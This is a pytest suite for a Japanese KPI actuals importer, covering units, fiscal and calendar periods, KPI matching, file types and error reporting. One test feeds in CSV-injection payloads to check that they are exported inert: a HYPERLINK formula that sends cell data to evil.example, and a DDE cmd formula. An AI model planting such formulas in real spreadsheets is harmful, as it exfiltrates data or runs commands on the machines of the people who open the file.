"""Reading actuals files: layouts, values and units, periods, KPI matching, and every bad file."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from sousei.ingest.actuals import ActualsReading, RowError, read_actuals
from sousei.model import Strategy
from sousei.model.actuals import KpiReference, Period
from sousei.report.formats import table_csv, tables_xlsx
from sousei.report.plan import render_errors
from sousei.report.tables import Table
from sousei.store.kpis import KpiEntry
from sousei.store.tables import KpiVersionRow

TODAY = date(2026, 6, 1)  # fiscal 2026 has begun; calendar 2026 is the current year
VISITORS = "national/A-KPI④-1"  # 訪日外国人旅行者数, 人, calendar
SPENDING = "national/g-1"  # インバウンド消費額, 円, calendar
SMART_FARMING = "national/a-1"  # スマート農業技術の活用割合, %, fiscal
RELOCATED = "national/c-2"  # 従業員増加数の累計, 人, 2015～2027年度累計
HEADER = "KPI ID,年度,値,単位,状態,公表者,資料名,公表日,URL,備考"


def entries(strategy: Strategy, key: str = "national") -> list[KpiEntry]:
    """KPI entries as the store's catalogue gives them, without a database."""
    found = []
    for kpi in strategy.kpis:
        target = kpi.target
        version = KpiVersionRow(
            kpi_id=f"{key}/{kpi.id}",
            doc_id=kpi.id,
            level=kpi.level,
            owner=kpi.owner,
            label=kpi.label,
            indicator=kpi.indicator,
            target_text=target.text,
            target_value=target.value,
            target_unit=target.unit,
            comparator=target.comparator,
            target_year=target.target_year,
            year_basis=target.year_basis,
            recurring=target.recurring,
            cumulative=target.cumulative,
            period_start=target.period_start,
            baseline_year=target.baseline_year,
            to_be_set=target.to_be_set,
            source_line=kpi.lines.start,
        )
        found.append(KpiEntry(f"{key}/{kpi.id}", version, KpiReference(), 2015, 2033))
    return found


@pytest.fixture(scope="module")
def kpis(national: Strategy) -> list[KpiEntry]:
    return entries(national)


def read(data: str | bytes, kpis: list[KpiEntry], *, name: str = "actuals.csv") -> ActualsReading:
    raw = data.encode() if isinstance(data, str) else data
    return read_actuals(raw, name=name, kpis=kpis, first_year=2015, last_year=2033, today=TODAY)


def csv_of(*rows: str, header: str = HEADER) -> str:
    return "\r\n".join([header, *rows]) + "\r\n"


def only_error(reading: ActualsReading) -> RowError:
    assert reading.reports == []
    assert len(reading.errors) == 1, reading.errors
    return reading.errors[0]


# -- values and units -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kpi", "value", "unit", "expected", "expected_unit"),
    [
        (VISITORS, "3,687万人", "", "36870000", "人"),
        (VISITORS, "36869900", "", "36869900", "人"),
        (VISITORS, "3,687", "万人", "36870000", "人"),
        (VISITORS, "３，６８７万人", "", "36870000", "人"),
        (VISITORS, "36,869,900", "人", "36869900", "人"),
        (SPENDING, "1兆5,071億円", "", "1507100000000", "円"),
        (SPENDING, "9.4559", "兆円", "9455900000000", "円"),
        (SPENDING, "8,125,700", "百万円", "8125700000000", "円"),
        (SMART_FARMING, "85.2%", "", "85.2", "%"),
        (SMART_FARMING, "85.20", "%", "85.2", "%"),
        (SMART_FARMING, "25.0", "", "25", "%"),
        ("national/I1", "△1.5", "%", "-1.5", "%"),  # no target unit: any known unit
        ("national/I1", "1.02", "", "1.02", ""),
    ],
)
def test_values_become_base_units(
    kpis: list[KpiEntry], kpi: str, value: str, unit: str, expected: str, expected_unit: str
) -> None:
    reading = read(csv_of(f'{kpi},2024,"{value}",{unit},確定値,,,,,'), kpis)
    assert reading.errors == []
    [(row, report)] = reading.reports
    assert row == 2
    assert report.value == Decimal(expected)
    assert str(report.value) == expected  # tidy: no exponent, no trailing zeros
    assert report.unit == expected_unit
    assert report.written == value + unit


@pytest.mark.parametrize(
    ("value", "unit", "column", "reason"),
    [
        ("abc", "", "値", "数値として読めません"),
        ("1,2,3", "", "値", "数値として読めません"),
        ("5kgs", "", "値", "単位「kgs」は不明です"),
        ("5", "kgs", "単位", "単位「kgs」は不明です"),
        ("5", "円", "単位", "単位「円」はこの KPI（人）と次元が合いません"),
        ("5億円", "", "値", "単位「円」はこの KPI（人）と次元が合いません"),
        ("5%", "人", "値", "値の単位「%」と単位「人」が食い違っています"),
        ("=SUM(A1:A3)", "", "値", "数式は受け付けません"),
        ("=1", "", "値", "数式は受け付けません"),
        ("1" + "0" * 28, "", "値", "値が大きすぎます（整数部は 28 桁まで）"),
        ("0.00000000001", "", "値", "小数点以下は 10 桁までです"),
    ],
)
def test_bad_values_are_reported_with_row_column_and_value(
    kpis: list[KpiEntry], value: str, unit: str, column: str, reason: str
) -> None:
    reading = read(csv_of(f'{VISITORS},2024,"{value}",{unit},,,,,,'), kpis)
    bad = unit if column == "単位" else value
    assert only_error(reading) == RowError(2, column, bad, reason)


@pytest.mark.parametrize("blank", ["", " ", "-", "－", "―", "…", "集計中"])
def test_an_empty_or_no_figure_cell_is_no_report(kpis: list[KpiEntry], blank: str) -> None:
    reading = read(csv_of(f"{VISITORS},2024,{blank},,,,,,,"), kpis)
    assert reading == ActualsReading([], [], "CSV（UTF-8）", "long")


# -- periods ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kpi", "written", "period"),
    [
        (VISITORS, "2024", Period(start=2024, end=2024, basis="calendar")),  # the KPI's basis
        (SMART_FARMING, "2024", Period(start=2024, end=2024, basis="fiscal")),
        (VISITORS, "2024年度", Period(start=2024, end=2024, basis="fiscal")),  # as written
        (SMART_FARMING, "2024年", Period(start=2024, end=2024, basis="calendar")),
        (SMART_FARMING, "令和6年度", Period(start=2024, end=2024, basis="fiscal")),
        (SMART_FARMING, "R6", Period(start=2024, end=2024, basis="fiscal")),
        (SMART_FARMING, "FY2024", Period(start=2024, end=2024, basis="fiscal")),
        (SMART_FARMING, "２０２４年度", Period(start=2024, end=2024, basis="fiscal")),
        (SMART_FARMING, "2015～2024年度", Period(start=2015, end=2024, basis="fiscal")),
        (SMART_FARMING, "2015-2024年度", Period(start=2015, end=2024, basis="fiscal")),
        (SMART_FARMING, "2015～2024", Period(start=2015, end=2024, basis="fiscal")),
        (SMART_FARMING, "2015年度～2024年度累計", Period(start=2015, end=2024, basis="fiscal")),
        ("national/a-2", "2024", Period(start=2024, end=2024, basis="fiscal")),  # no basis
        # a single year of a 累計 KPI is the total from its first year
        (RELOCATED, "2024年度", Period(start=2015, end=2024, basis="fiscal")),
        (RELOCATED, "2015～2024年度", Period(start=2015, end=2024, basis="fiscal")),
    ],
)
def test_periods(kpis: list[KpiEntry], kpi: str, written: str, period: Period) -> None:
    reading = read(csv_of(f"{kpi},{written},1,,,,,,,"), kpis)
    assert reading.errors == []
    assert reading.reports[0][1].period == period


def test_a_basis_column_decides_and_must_agree_with_the_period(kpis: list[KpiEntry]) -> None:
    header = "KPI ID,年度,期間区分,値"
    reading = read(
        csv_of(
            f"{VISITORS},2024,年度,1",
            f"{SMART_FARMING},2024,calendar,1",
            f"{VISITORS},2023年,年度,1",
            f"{VISITORS},2022,四半期,1",
            header=header,
        ),
        kpis,
    )
    assert [r.period.basis for _, r in reading.reports] == ["fiscal", "calendar"]
    assert reading.errors == [
        RowError(4, "年度", "2023年", "「2023年」と期間区分「年度」が食い違っています"),
        RowError(5, "期間区分", "四半期", "期間区分は「年度」か「年」で書いてください"),
    ]


@pytest.mark.parametrize(
    ("written", "reason"),
    [
        ("2040", "2040年はこの戦略の期間（2015～2033年）の外です"),
        ("2010年度", "2010年度はこの戦略の期間（2015～2033年）の外です"),
        ("2010～2020年度", "2010～2020年度はこの戦略の期間（2015～2033年）の外です"),
        ("2027", "2027年は未来の期間です（今は 2026年）"),
        ("2027年度", "2027年度は未来の期間です（今は 2026年度）"),
        ("来年", "年度として読めません（例: 2024、2024年度、令和6年度、2015～2027年度）"),
        ("2024年3月", "年度として読めません（例: 2024、2024年度、令和6年度、2015～2027年度）"),
    ],
)
def test_periods_outside_the_strategy_or_in_the_future(
    kpis: list[KpiEntry], written: str, reason: str
) -> None:
    reading = read(csv_of(f"{VISITORS},{written},1,,,,,,,"), kpis)
    assert only_error(reading) == RowError(2, "年度", written, reason)


def test_the_current_year_is_accepted_and_today_defaults_to_japan(kpis: list[KpiEntry]) -> None:
    assert read(csv_of(f"{VISITORS},2026,1,,,,,,,"), kpis).errors == []
    year = datetime.now().year
    later = read_actuals(
        csv_of(f"{VISITORS},{year + 2},1,,,,,,,").encode(),
        name="x.csv",
        kpis=kpis,
        first_year=None,
        last_year=None,
    )
    assert "未来の期間です" in only_error(later).reason


# -- KPI matching -----------------------------------------------------------------------------


def test_kpis_by_id_document_id_or_unique_indicator(kpis: list[KpiEntry]) -> None:
    text = csv_of(
        "national/A-KPI④-1,,2019,1",
        "A-KPI④-1,,2020,2",  # the document's own id
        ",訪日外国人旅行者数,2021,3",
        ",訪日 外国人旅行者数,2022,4",  # spacing ignored
        ",ｲﾝﾊﾞｳﾝﾄﾞ消費額,2023,5円",  # half-width katakana: NFKC
        header="KPI ID,指標,年,値",
    )
    reading = read(text, kpis)
    assert reading.errors == []
    assert [r.kpi_id for _, r in reading.reports] == [VISITORS] * 4 + [SPENDING]


def test_unknown_and_ambiguous_kpis(kpis: list[KpiEntry]) -> None:
    shared = next(k.indicator for k in kpis if k.kpi_id == "national/d-2.1")
    reading = read(
        csv_of(
            "訪日外国人旅行社数,2024,1", f"{shared},2024,1", "zzz,2024,1", header="指標,年度,値"
        ),
        kpis,
    )
    unknown, ambiguous, other = reading.errors
    assert unknown.row == 2
    assert unknown.column == "指標"
    assert unknown.reason.startswith("KPI「訪日外国人旅行社数」が見つかりません（近いもの: ")
    assert VISITORS in unknown.reason
    assert ambiguous.row == 3
    assert ambiguous.value == shared
    assert ambiguous.reason.startswith("KPI「（中堅・中小企業の")
    assert "は複数あります: 候補 national/d-2.1（目標: 地域別の最低賃金" in ambiguous.reason
    assert "national/d-2.2（目標: 全国平均の最低賃金" in ambiguous.reason
    assert other == RowError(4, "指標", "zzz", "KPI「zzz」が見つかりません")


def test_an_unknown_id_and_a_missing_kpi(kpis: list[KpiEntry]) -> None:
    reading = read(csv_of("national/zzz,2024,1,,,,,,,", ",2024,1,,,,,,,"), kpis)
    assert reading.errors == [
        RowError(2, "KPI ID", "national/zzz", "KPI ID「national/zzz」が見つかりません"),
        RowError(3, "KPI ID", None, "KPI ID か指標を書いてください"),
    ]


def test_duplicate_rows_name_both_rows(kpis: list[KpiEntry]) -> None:
    rows = [f"{VISITORS},2024,1,,,,,,,", f"{SPENDING},2024,1,,,,,,,"] * 6
    rows += [f"{VISITORS},2024年,2,,,,,,,"]
    reading = read(csv_of(*rows), kpis)
    assert reading.errors[0] == RowError(
        4, "年度", "2024", "同じ KPI・期間の行が 2 行目と重複しています"
    )
    assert reading.errors[-1] == RowError(
        14, "年度", "2024年", "同じ KPI・期間の行が 2 行目と重複しています"
    )
    assert len(reading.errors) == 11


def test_every_error_of_a_row_is_collected(kpis: list[KpiEntry]) -> None:
    reading = read(csv_of("national/zzz,2040,abc,kgs,確認中,,,,ftp://x,"), kpis)
    assert {e.row for e in reading.errors} == {2}
    assert [(e.column, e.value) for e in reading.errors] == [
        ("KPI ID", "national/zzz"),
        ("単位", "kgs"),
        ("状態", "確認中"),
        ("URL", "ftp://x"),
        ("年度", "2040"),
        ("値", "abc"),
    ]
    assert reading.errors[2].reason == (
        "状態は 速報、確報、確定値、推計値、暫定値、見込み のいずれかで書いてください"
    )


def test_errors_are_capped_with_a_final_note(kpis: list[KpiEntry]) -> None:
    reading = read(csv_of(*[f"{VISITORS},2024,x{i},,,,,,," for i in range(1500)]), kpis)
    assert len(reading.errors) == 1001
    assert reading.errors[-1] == RowError(
        None, None, None, "誤りが多いため最初の 1,000 件だけを示しています（ほかに 500 件）"
    )
    assert render_errors(reading.errors).splitlines()[0] == "誤り 1,000 件以上:"


# -- details: status and source -----------------------------------------------------------------


def test_status_and_source_are_kept(kpis: list[KpiEntry]) -> None:
    row = (
        f"{VISITORS},2024,36869900,人,推計,日本政府観光局（JNTO）,訪日外客数,2025-01-15,"
        "https://www.jnto.go.jp/statistics/,年間推計値"
    )
    [(_, report)] = read(csv_of(row), kpis).reports
    assert report.status == "推計値"
    assert report.source.publisher == "日本政府観光局（JNTO）"
    assert report.source.publication == "訪日外客数"
    assert report.source.published == "2025-01-15"
    assert report.source.url == "https://www.jnto.go.jp/statistics/"
    assert report.note == "年間推計値"


def test_english_headers_and_the_bundled_published_figures(kpis: list[KpiEntry]) -> None:
    data = (Path(__file__).parents[2] / "src/sousei/data/published-actuals.csv").read_bytes()
    reading = read(data, kpis)
    assert (reading.reports[0][0], reading.reports[0][1].kpi_id) == (2, VISITORS)
    assert {r.kpi_id for _, r in reading.reports} == {VISITORS, SPENDING}
    assert reading.reports[0][1].source.publication == "訪日外客数 2019年"  # "reference"
    # its own-calculation rows name indicators the strategy does not have, in 円/人
    assert {e.reason for e in reading.errors if e.column == "unit"} == {"単位「円/人」は不明です"}


# -- layouts and headers ----------------------------------------------------------------------


def test_missing_columns_are_file_errors(kpis: list[KpiEntry]) -> None:
    reading = read("KPI ID,期間,金額\r\nx,2024,1\r\n", kpis)
    assert reading.errors == [
        RowError(None, "値", None, "必須の列「値」がありません（見出し: KPI ID、期間、金額）")
    ]
    assert read("名前,年度,値\r\nx,2024,1\r\n", kpis).errors == [
        RowError(
            None,
            "KPI ID",
            None,
            "必須の列「KPI ID」または「指標」がありません（見出し: 名前、年度、値）",
        )
    ]
    assert (
        read("指標,値\r\nx,1\r\n", kpis)
        .errors[0]
        .reason.startswith("必須の列「年度」（または年ごとの列「2025年度」など）がありません")
    )


def test_duplicate_columns_and_mixed_layouts_are_refused(kpis: list[KpiEntry]) -> None:
    assert read("KPI ID,年度,値,value\r\n", kpis).errors == [
        RowError(1, "value", None, "列「value」が 2 回あります")
    ]
    mixed = only_error(read("KPI ID,年度,2024年度\r\n", kpis))
    assert mixed.reason.startswith("年ごとの列（2024年度 など）と「年度」「値」の列が両方")


def test_unknown_columns_are_ignored_and_listed(kpis: list[KpiEntry]) -> None:
    reading = read(f"KPI ID,年度,値,担当者\r\n{VISITORS},2024,1,山田\r\n", kpis)
    assert reading.errors == []
    assert reading.ignored_columns == ("担当者",)


def test_a_wide_csv_with_title_rows_above_the_header(kpis: list[KpiEntry]) -> None:
    text = (
        "KPI 実績報告（観光庁）,,,\r\n"
        ",,,\r\n"
        "KPI ID,単位,2024年,2025年\r\n"
        f"{VISITORS},人,36869900,42683600\r\n"
        f"{SPENDING},円,,9.4559兆\r\n"
    )
    reading = read(text, kpis)
    assert reading.errors == []
    assert reading.layout == "wide"
    assert [(row, r.kpi_id, r.period.end, r.value) for row, r in reading.reports] == [
        (4, VISITORS, 2024, Decimal(36869900)),
        (4, VISITORS, 2025, Decimal(42683600)),
        (5, SPENDING, 2025, Decimal(9455900000000)),
    ]


def test_row_numbers_are_lines_even_after_a_multiline_cell(kpis: list[KpiEntry]) -> None:
    text = csv_of(f'{VISITORS},2023,1,,,,,,,"二行の\r\n備考"', f"{VISITORS},2024,x,,,,,,,")
    reading = read(text, kpis)
    assert reading.reports[0][1].note == "二行の\r\n備考"
    assert reading.errors == [RowError(4, "値", "x", "数値として読めません")]


def test_an_unquoted_comma_that_splits_a_value_is_caught(kpis: list[KpiEntry]) -> None:
    split = read(f"KPI ID,年度,値,単位\r\n{VISITORS},2024,3,687万人\r\n", kpis)
    assert only_error(split) == RowError(
        2, "単位", "687万人", "単位「687万人」は不明です（値の「,」で列が分かれていませんか）"
    )
    reading = read(f"KPI ID,年度,値,単位,状態\r\n{VISITORS},2024,3,687万人,,確定値\r\n", kpis)
    assert only_error(reading) == RowError(
        2,
        None,
        None,
        "見出しより多くの列に値があります。"
        '「3,687」のような「,」入りの値は「"3,687"」と引用符で囲んでください',
    )


def test_tab_separated_text_is_read(kpis: list[KpiEntry]) -> None:
    reading = read(f"KPI ID\t年度\t値\r\n{VISITORS}\t2024\t1,000\r\n", kpis)
    assert [r.value for _, r in reading.reports] == [1000]


# -- encodings and file types -----------------------------------------------------------------


def test_utf8_bom_and_cp932_read_the_same(kpis: list[KpiEntry]) -> None:
    text = csv_of(f"{VISITORS},令和6年,3687万人,,確定値,日本政府観光局,訪日外客数,,,備考")
    plain = read(text.encode("utf-8"), kpis)
    bom = read(text.encode("utf-8-sig"), kpis)
    sjis = read(text.encode("cp932"), kpis)
    assert (plain.file_format, bom.file_format, sjis.file_format) == (
        "CSV（UTF-8）",
        "CSV（UTF-8（BOM 付き））",
        "CSV（Shift_JIS）",
    )
    assert plain.reports == bom.reports == sjis.reports
    assert plain.reports[0][1].source.publisher == "日本政府観光局"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "ファイルが空です"),
        (b"  \r\n\r\n", "ファイルが空です"),
        (b"\xef\xbb\xbf", "ファイルが空です"),
        (b",,,\r\n,,\r\n", "ファイルが空です（見出しの行がありません）"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "CSV または XLSX ではありません（PDF です）"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "CSV または XLSX ではありません（PNG 画像です）"),
        (bytes(range(256)) * 4, "CSV または XLSX ではありません（テキストでないデータを含みます）"),
        (
            "指標,年度,値\n".encode("utf-16"),
            "文字コードを判別できません（UTF-16 です）。"
            "UTF-8 または Shift_JIS（CP932）の CSV で保存してください",
        ),
        (
            "指標,年度,値\n訪日外国人旅行者数,2024,1\n".encode("euc_jp"),
            "文字コードを判別できません（UTF-8 でも Shift_JIS（CP932）でもありません）。"
            "UTF-8 または Shift_JIS で保存してください",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
            "CSV または XLSX ではありません（旧形式",
        ),
        (b"PK\x03\x04 broken", "CSV または XLSX ではありません（壊れた ZIP ファイルです）"),
    ],
)
def test_files_that_cannot_be_read(kpis: list[KpiEntry], data: bytes, reason: str) -> None:
    error = only_error(read(data, kpis))
    assert error.row is None
    assert error.reason.startswith(reason)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("old.xls", "CSV または XLSX ではありません（旧形式の Excel（.xls）です。"),
        ("locked.xlsx", "パスワード付きの XLSX は読めません。"),
        ("memo.doc", "CSV または XLSX ではありません（旧形式の Office 文書です）"),
    ],
)
def test_old_office_files_are_named_by_their_suffix(
    kpis: list[KpiEntry], name: str, reason: str
) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
    assert only_error(read(ole, kpis, name=name)).reason.startswith(reason)


def test_a_zip_that_is_not_a_workbook(kpis: list[KpiEntry]) -> None:
    def zipped(*names: str) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name in names:
                archive.writestr(name, "<x/>")
        return out.getvalue()

    docx = zipped("[Content_Types].xml", "word/document.xml")
    assert only_error(read(docx, kpis, name="a.xlsx")).reason == (
        "CSV または XLSX ではありません（Word 文書（.docx）です）"
    )
    assert only_error(read(zipped("a.txt"), kpis)).reason == (
        "CSV または XLSX ではありません（ZIP ファイルです）"
    )
    broken = only_error(read(zipped("xl/workbook.xml"), kpis, name="a.xlsx"))
    assert broken.reason.startswith("XLSX として読めません")


def test_the_content_decides_not_the_name(kpis: list[KpiEntry]) -> None:
    text = csv_of(f"{VISITORS},2024,1,,,,,,,").encode()
    expected = read(text, kpis).reports
    assert read(text, kpis, name="figures.txt").reports == expected
    assert read(text, kpis, name="figures.xlsx").reports == expected
    workbook = xlsx([["KPI ID", "年度", "値"], [VISITORS, 2024, 1]])
    assert read(workbook, kpis, name="figures.csv").reports == expected


# -- XLSX -------------------------------------------------------------------------------------


def xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_xlsx_numbers_dates_percent_and_formulas(kpis: list[KpiEntry]) -> None:
    data = xlsx(
        [
            ["KPI ID", "年度", "値", "単位", "公表日", "備考"],
            [VISITORS, 2024, 36869900, None, datetime(2025, 1, 15), '=HYPERLINK("http://x","y")'],
            [SMART_FARMING, "2024年度", 0.523, None, None, None],
            [SPENDING, 2024, 1.5071e12, "円", None, None],
            [VISITORS, 2023, "=B2*2", None, None, None],
        ]
    )
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet is not None
    sheet["C3"].number_format = "0.0%"  # what Excel does with "52.3%" typed in
    out = io.BytesIO()
    workbook.save(out)
    reading = read(out.getvalue(), kpis, name="figures.xlsx")
    assert reading.file_format == "XLSX（シート「Sheet」）"
    values = [(r.kpi_id, r.value, r.unit) for _, r in reading.reports]
    assert values == [
        (VISITORS, 36869900, "人"),
        (SMART_FARMING, Decimal("52.3"), "%"),
        (SPENDING, 1507100000000, "円"),
    ]
    assert reading.reports[0][1].source.published == "2025-01-15"
    assert reading.reports[0][1].note == '=HYPERLINK("http://x","y")'
    assert reading.errors == [RowError(5, "値", "=B2*2", "数式は受け付けません")]


def test_the_input_sheet_is_read_and_title_rows_skipped(kpis: list[KpiEntry]) -> None:
    workbook = Workbook()
    first = workbook.active
    assert first is not None
    first.title = "説明"
    first.append(["このシートは読まれません"])
    sheet = workbook.create_sheet("入力")
    sheet.append(["令和6年度 KPI 実績報告"])
    sheet.append([])
    sheet.append(["指標", "年", "値"])
    sheet.append(["訪日外国人旅行者数", 2024, "3,687万人", None, "← JNTO の推計"])  # a remark
    out = io.BytesIO()
    workbook.save(out)
    reading = read(out.getvalue(), kpis, name="report.xlsx")
    assert reading.errors == []
    assert [(row, r.value) for row, r in reading.reports] == [(4, Decimal(36870000))]


def test_formula_text_is_kept_as_text_and_exported_inert(kpis: list[KpiEntry]) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
    quoted = attack.replace('"', '""')
    text = csv_of(f'{VISITORS},2024,1,,,,"=cmd|\' /C calc\'!A0",,,"{quoted}"')
    [(_, report)] = read(text, kpis).reports
    assert report.note == attack
    assert report.source.publication == "=cmd|' /C calc'!A0"
    table = Table("actuals", ("資料名", "備考"), [(report.source.publication, report.note)])
    exported = table_csv(table).data.decode("utf-8-sig")
    assert "\r\n'=cmd|' /C calc'!A0,\"'=HYPERLINK(" in exported
    sheet = load_workbook(io.BytesIO(tables_xlsx([table])))["actuals"]
    for cell in sheet[2]:
        assert cell.data_type == "s"
        assert cell.value in (report.note, report.source.publication)


# -- error text -------------------------------------------------------------------------------


def test_render_errors() -> None:
    text = render_errors(
        [
            RowError(12, "値", "abc", "数値として読めません"),
            RowError(None, None, None, "ファイルが空です"),
            RowError(3, "年度", None, "年度が空です"),
        ]
    )
    assert text.splitlines() == [
        "誤り 3 件:",
        "  12 行目 値「abc」: 数値として読めません",
        "  ファイル: ファイルが空です",
        "  3 行目 年度: 年度が空です",
    ]


# -- speed ------------------------------------------------------------------------------------


def bulk_kpis(count: int) -> list[KpiEntry]:
    found = []
    for i in range(count):
        version = KpiVersionRow(
            kpi_id=f"bulk/{i}",
            doc_id=f"b{i}",
            indicator=f"指標{i:04}",
            target_text="1万人（2030年度）",
            target_unit="人",
            year_basis="fiscal",
            cumulative=False,
        )
        found.append(KpiEntry(f"bulk/{i}", version, KpiReference(), 2015, 2033))
    return found


def bulk_csv(kpis: list[KpiEntry], rows: int) -> bytes:
    """`rows` distinct KPI × period rows: single years and ranges, both bases."""
    periods = [f"{s}～{e}" for s in range(2015, 2025) for e in range(s, 2025)]
    lines = [HEADER.replace("年度", "年度,期間区分", 1)]
    for n in range(rows):
        kpi = kpis[n // 100].kpi_id
        period, basis = periods[n % 100 // 2], ("年度", "年")[n % 2]
        lines.append(
            f"{kpi},{period},{basis},{n * 7 + 1},人,確定値,内閣府,統計調査,2025-06-30,"
            "https://www.example.go.jp/stat,"
        )
    return ("\r\n".join(lines) + "\r\n").encode()


def test_100_000_rows_are_all_read() -> None:
    # How long it takes is measured in bench/bench_store.py, not asserted here.
    kpis = bulk_kpis(1000)
    reading = read_actuals(
        bulk_csv(kpis, 100_000),
        name="bulk.csv",
        kpis=kpis,
        first_year=2015,
        last_year=2033,
        today=TODAY,
    )
    assert reading.errors == []
    assert len(reading.reports) == 100_000
